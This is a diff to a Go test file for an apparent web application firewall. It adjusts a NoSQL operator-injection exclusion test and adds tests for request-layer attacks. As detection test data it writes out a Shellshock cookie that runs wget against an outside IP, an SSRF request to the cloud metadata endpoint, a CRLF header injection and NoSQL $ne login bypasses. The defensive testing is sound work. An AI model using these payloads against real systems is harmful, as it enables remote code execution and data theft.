@@ -677,20 +677,22 @@ func TestSplitSFStrings(t *testing.T) {
 
 // TestEngineOperatorQueryExclusion: APIs that take MongoDB-style operators
 // in bracketed query names on purpose (Strapi: filters[price][$lt]=10)
-// look exactly like operator injection; an exclusion scoped to those
-// names lets them through and keeps the rule everywhere else.
+// pass with a weak signal on data fields; on a credential they block, and
+// an exclusion scoped to those names lets them through and keeps the rule
+// everywhere else.
 func TestEngineOperatorQueryExclusion(t *testing.T) {
-	excl := Config{Exclusions: []Exclusion{{Rules: []string{"nosql-operator"}, Paths: []string{"/api/*"}, Targets: []string{"query:filters[*", "query_name:filters[*"}}}}
+	excl := Config{Exclusions: []Exclusion{{Rules: []string{"nosql-*"}, Paths: []string{"/api/*"}, Targets: []string{"query:filters[*", "query_name:filters[*"}}}}
 	tests := []struct {
 		name   string
 		cfg    Config
 		target string
 		block  bool
 	}{
-		{"blocked by default", Config{}, "/api/products?filters[price][$lt]=10", true},
-		{"excluded", excl, "/api/products?filters[price][$lt]=10&sort=price", false},
+		{"a data field passes by default", Config{}, "/api/products?filters[price][$lt]=10", false},
+		{"a credential blocks by default", Config{}, "/api/users?filters[password][$ne]=x", true},
+		{"excluded", excl, "/api/users?filters[password][$ne]=x&sort=price", false},
 		{"other parameter still checked", excl, "/api/login?username[$ne]=x", true},
-		{"other path still checked", excl, "/admin?filters[price][$lt]=10", true},
+		{"other path still checked", excl, "/admin?filters[password][$ne]=x", true},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -898,6 +900,42 @@ func TestPathRedirect(t *testing.T) {
 		}
 		if found != tc.block || tc.block && !d.Blocked {
 			t.Errorf("%s: blocked %v %v, want %v", tc.target, d.Blocked, d.Matches, tc.block)
+		}
+	}
+}
+
+// TestRequestLayerShapes: Shellshock in a Cookie header, a request whose
+// Host is the metadata service (an absolute-form target), the escape of
+// a line break in the path before a response header.
+func TestRequestLayerShapes(t *testing.T) {
+	eng := mustEngine(t, Config{})
+	tests := []struct {
+		name, target, cookie, rule string
+	}{
+		{"shellshock in a cookie", "/cgi-bin/login.cgi", `() { ignored; }; /bin/bash -c "wget http://198.51.100.23/b -O /tmp/b"`, "rce-shellshock"},
+		{"metadata host", "http://169.254.169.254/latest/meta-data/", "", "ssrf-cloud-metadata"},
+		{"escaped break in the path", "/%5Cr%5Cn%20Set-Cookie:crlf=1", "", "crlf-header-injection"},
+		{"benign cookie with braces", "/", "prefs={a:1}; theme=dark", ""},
+	}
+	for _, tc := range tests {
+		target := tc.target
+		if !strings.HasPrefix(target, "http") {
+			target = "http://app.example.com" + target
+		}
+		r := newReq("GET", target, "", "")
+		if tc.cookie != "" {
+			r.Header.Set("Cookie", tc.cookie)
+		}
+		d, err := eng.Inspect(r)
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, m := range d.Matches {
+			found = found || m.Rule == tc.rule
+		}
+		if tc.rule == "" && d.Blocked || tc.rule != "" && (!d.Blocked || !found) {
+			t.Errorf("%s: blocked %v %v, want rule %q", tc.name, d.Blocked, d.Matches, tc.rule)
 		}
 	}
 }
